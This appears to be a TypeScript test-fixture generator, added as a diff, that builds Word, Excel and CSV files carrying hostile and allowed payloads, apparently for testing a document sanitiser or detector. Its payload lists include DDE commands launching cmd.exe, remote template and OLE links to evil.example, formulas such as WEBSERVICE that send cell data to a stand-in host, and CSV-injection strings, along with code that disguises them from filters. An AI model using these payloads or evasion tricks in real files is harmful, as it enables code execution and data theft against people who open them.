@@ -1,0 +1,231 @@
+import { docxParts, names, xlsxParts } from "./office-samples";
+import { blanks, encoded, misc, pick, type Random, randomCase, spelledText, spelledValue } from "./spelled-xml";
+import { zip } from "./zip-samples";
+
+/** Makes a file of a payload. */
+type Make = (payload: string, random: Random) => Uint8Array;
+
+/** What would act, and what is allowed in its place. */
+export interface Family {
+  readonly hostile: readonly [string, ...string[]];
+  readonly allowed: readonly [string, ...string[]];
+  readonly make: Make;
+}
+
+const declaration = '<?xml version="1.0" encoding="UTF-8"?>';
+const word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
+const strictWord = "http://purl.oclc.org/ooxml/wordprocessingml/main";
+const sheet = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
+const prefixes = ["w", "W_1.2", "é", "字"] as const;
+
+/** A Word field: in one element, or between marks in runs of several kinds, within another field, in any part. */
+const field: Family = {
+  hostile: [
+    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
+    "DDE cmd x",
+    'INCLUDEPICTURE "http://evil.example/a.png" \\d',
+    'INCLUDETEXT "https://evil.example/a"',
+    "INCLUDE c:\\\\a.docx",
+    'LINK Excel.Sheet.12 "\\\\\\\\evil\\\\a.xlsx" A1',
+    'DATABASE \\d "C:\\a.mdb"',
+    "IMPORT a.png",
+    'RD "\\\\\\\\evil\\\\a.docx"',
+    "PRINT 27",
+    "EMBED Package",
+    "CONTROL Forms.CommandButton.1",
+    "MACROBUTTON AutoExec x",
+    'HYPERLINK "javascript:alert(1)"',
+    'HYPERLINK \\o "a" "ms-msdt:/id PCWDiagnostic"',
+    "HYPERLINK \\\\\\\\evil\\\\share",
+    'HYPERLINK "file://evil.example/share/a.exe"',
+    "UNKNOWNFIELD x",
+    '"DDE" cmd',
+  ],
+  allowed: [
+    "PAGE",
+    'TOC \\o "1-3" \\h',
+    'DATE \\@ "d MMMM"',
+    'HYPERLINK "https://a.example" \\o "a"',
+    "= 3 * 4",
+    "XE a",
+  ],
+  make(payload, random) {
+    const prefix = pick(random, prefixes);
+    const tag = (name: string, attributes = "", content = "") => {
+      const full = `${prefix}:${name}`;
+      return `<${full} ${attributes}>${content}</${full}>`;
+    };
+    const mark = (type: string) => tag("fldChar", `${prefix}:fldCharType="${type}"`);
+    const code = blanks(random, 400) + payload.replace(/^[A-Z]+/, (name) => randomCase(random, name));
+    const holder = pick(random, ["instrText", "delInstrText", "t"]);
+    const cut = Math.floor(random() * code.length);
+    const run = (text: string) => tag("r", "", tag(holder, "", spelledText(random, text)));
+    const whole = `${mark("begin")}${run(code.slice(0, cut))}${run(code.slice(cut))}`;
+    const complex = `${whole}${random() < 0.7 ? mark("separate") : ""}${random() < 0.9 ? mark("end") : ""}`;
+    const nested = `${mark("begin")}${tag("instrText", "", "IF 1 = 1 ")}${complex}${mark("end")}`;
+    const decoy = 'xmlns:a="urn:a" a:instr="PAGE"';
+    const simple = tag("fldSimple", `${decoy} ${prefix}:instr="${spelledValue(random, code)}"`);
+    const part = pick(random, ["header", "footer", "footnotes", "endnotes", "comments"]);
+    const name = pick(random, [`word/${part}1.xml`, `word/media/${part}.png`, `a/${part}.dat`]);
+    const namespaces = `xmlns:${prefix}="${pick(random, [word, word, strictWord])}"`;
+    const xml = `${declaration}${pick(random, misc)}${tag(part, namespaces, tag("p", "", pick(random, [simple, complex, nested])))}`;
+    return zip(
+      docxParts({ parts: { [name]: encoded(random, xml) }, overrides: { [`/${name}`]: names.wordPartType(part) } }),
+      { stored: true },
+    );
+  },
+};
+
+const officeTypes = [
+  "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
+  "http://purl.oclc.org/ooxml/officeDocument/relationships",
+] as const;
+
+/** A relationship: its type, mode and target, a blank between each. */
+const relationship: Family = {
+  hostile: [
+    "attachedTemplate External http://evil.example/a.dotm",
+    "attachedTemplate External file://evil.example/share/a.dotm",
+    "attachedTemplate External \\\\evil\\share\\a.dotm",
+    "attachedTemplate External file:///C:\\..\\..\\\\evil\\a.dotm",
+    "image External http://evil.example/a.png",
+    "image External //evil.example/a.png",
+    "oleObject External http://evil.example/a.hta",
+    "oleObject Internal embeddings/a.bin",
+    "package Internal embeddings/a.docm",
+    "frame External http://evil.example/",
+    "subDocument External a.docx",
+    "aFChunk Internal chunk.rtf",
+    "control Internal activeX1.xml",
+    "externalLink Internal externalLink1.xml",
+    "connections Internal connections.xml",
+    "mailMergeSource External file:///C:\\a.mdb",
+    "header External http://evil.example/header.xml",
+    "settings External http://evil.example/settings.xml",
+    "hyperlink External javascript:alert(1)",
+    "hyperlink External ms-msdt:/id",
+    "hyperlink External \\\\evil\\share",
+    "vbaProject Internal a.bin",
+    "header Internal styles.xml",
+    "header Internal ..\\word\\header.xml",
+    "header Internal head%65r.xml",
+    "STYLES Internal styles.xml",
+    "styles internal styles.xml",
+    "unknown Internal styles.xml",
+  ],
+  allowed: [
+    "hyperlink External https://a.example/",
+    "hyperlink External mailto:a@a.example",
+    "styles Internal styles.xml",
+    "attachedTemplate External file:///C:\\Users\\Siti\\Resume.dotx",
+  ],
+  make(payload, random) {
+    const [type = "", mode = "", ...target] = payload.split(" ");
+    const values = {
+      Id: "rId9",
+      Type: `${pick(random, officeTypes)}/${type}`,
+      Target: target.join(" "),
+      ...((mode !== "Internal" || random() < 0.5) && { TargetMode: mode }),
+    };
+    const attributes = Object.entries(values)
+      .toSorted(() => random() - 0.5)
+      .map(([name, value]) => `${name}="${spelledValue(random, value)}"`);
+    const prefix = pick(random, prefixes);
+    const uri = "http://schemas.openxmlformats.org/package/2006/relationships";
+    const element = `<${prefix}:Relationship ${attributes.join(pick(random, [" ", "\n", "\t\t"]))}/>`;
+    const xml = `${declaration}${pick(random, misc)}<${prefix}:Relationships xmlns:${prefix}="${uri}">${pick(random, misc)}${element}</${prefix}:Relationships>`;
+    const name = pick(random, ["word/_rels/document.xml.rels", "word/_rels/settings.xml.rels", "word/_RELS/a.RELS"]);
+    return zip(docxParts({ parts: { [name]: encoded(random, xml) } }), { stored: true });
+  },
+};
+
+const formulas = [
+  "cmd|'/c calc'!A0",
+  "calc|a!b",
+  'WEBSERVICE("http://evil.example/"&A1)',
+  '_xlfn.WEBSERVICE("http://evil.example")',
+  'HYPERLINK("http://evil.example/?"&A1,"tekan")',
+  'IMPORTXML("http://evil.example","//a")',
+  'IMPORTDATA("http://evil.example")',
+  'IMAGE("http://evil.example/a.png")',
+  'RTD("evil.server",,"a")',
+  'CALL("urlmon","URLDownloadToFileA","JJCCJJ")',
+  'REGISTER.ID("a","b")',
+  'EXEC("calc")',
+  'DDE("soffice","a.ods","a")',
+  "INDIRECT(\"'[\\\\evil\\a.xlsx]S'!A1\")",
+  "'\\\\evil\\share\\[a.xlsx]S'!A1",
+  "'http://evil.example/[a.xlsx]S'!A1",
+  "'file:///c:/a.ods'#$S.A1",
+  "[1]S!A1",
+  "'[1]S 2'!A1",
+  "EVIL(A1)",
+  "'a|b'!A1",
+] as const;
+
+/** A formula with something before it that spreadsheets read on from. */
+function spelledFormula(random: Random, payload: string): string {
+  const spaced = payload.replace("(", `${blanks(random, 4).replaceAll("\u00a0", " ")}(`);
+  const named = spaced.replace(/^[\w.]+(?=\s*\()/, (name) => randomCase(random, name));
+  const before = pick(random, [
+    "",
+    "1+",
+    "A1*",
+    "SUM(1,2)+",
+    "IF(1,",
+    '"a""b"&',
+    "-(",
+    '"=A1|"&',
+    "ROUND(A1*1.11,-2)+",
+  ]);
+  const open = (before.match(/\(/g)?.length ?? 0) - (before.match(/\)/g)?.length ?? 0);
+  return before + named + ")".repeat(open);
+}
+
+/** A formula in a workbook: in a cell, a rule, a name or an attribute. */
+const formula: Family = {
+  hostile: [...formulas],
+  allowed: ["SUM(A1:B9)", "VLOOKUP(A1,$A$1:$B$9,2,FALSE)", "Tarif!A1%", "'Kelas \"I\"'!A1", "Tarif[Harga]", '"|"&A1'],
+  make(payload, random) {
+    const code = spelledFormula(random, payload);
+    const behind = random() < 0.3 ? `'a"b'!A1+${code}+'c"d'!B2` : code;
+    const text = spelledText(random, behind);
+    const content = pick(random, [
+      `<a:row r="1"><a:c r="A1"><a:f>${text}</a:f></a:c></a:row>`,
+      `<a:dataValidation><a:formula1>${text}</a:formula1></a:dataValidation>`,
+      `<a:cfRule><a:formula>${text}</a:formula></a:cfRule>`,
+      `<a:ext><b:f xmlns:b="http://schemas.microsoft.com/office/excel/2006/main">${text}</b:f></a:ext>`,
+      `<a:definedName name="a">${text}</a:definedName>`,
+      `<a:cfvo type="formula" val="${spelledValue(random, behind)}"/>`,
+      `<a:cacheField formula="${spelledValue(random, behind)}"/>`,
+      `<a:sp macro="" textlink="${spelledValue(random, behind)}"/>`,
+    ]);
+    const xml = `${declaration}${pick(random, misc)}<a:worksheet xmlns:a="${sheet}">${pick(random, misc)}${content}</a:worksheet>`;
+    return zip(xlsxParts({ parts: { "xl/worksheets/sheet1.xml": encoded(random, xml) } }), { stored: true });
+  },
+};
+
+/** A formula in a cell of a CSV file. */
+const cell: Family = {
+  hostile: [...formulas, '1+\nWEBSERVICE("http://evil.example")', "1+\ncmd|'/c calc'!A0"],
+  allowed: ["SUM(A1:B9)", "A1%", '"a"&A1', "IF(A1>1,2,3)"],
+  make(payload, random) {
+    const separator = pick(random, [",", ";", "\t", "^"]);
+    const sign = pick(random, ["=", "=", "+", "-", "@", "＝", "＋"]);
+    const lead = pick(random, ["", " ", " ".repeat(9), "\u00a0", '"', "\ufeff"]) + sign;
+    const long = random() < 0.1 ? `"${"a".repeat(1_500)}"&` : "";
+    const code = `${lead}${long}${spelledFormula(random, payload)}`;
+    const needsQuotes = code.includes(separator) || /["\n]/.test(code) || random() < 0.3;
+    const written = needsQuotes ? `"${code.replaceAll('"', '""')}"` : code;
+    const end = pick(random, ["\n", "\r\n", "\r"]);
+    const row = (...cells: readonly string[]) => cells.join(separator) + end;
+    const first = separator === "^" ? `sep=^${end}` : "";
+    const others = ["a", '"b ""c"""', `"d${separator}e"`, "-10 mg (strip)", "+62 21 5010", `"f${end}g"`, "5"] as const;
+    const fill = () => pick(random, others);
+    return new TextEncoder().encode(
+      `${first}${row("x", fill(), fill())}${row(fill(), written, fill())}${row(fill(), fill(), fill())}`,
+    );
+  },
+};
+
+export const families = { field, relationship, formula, cell } as const;
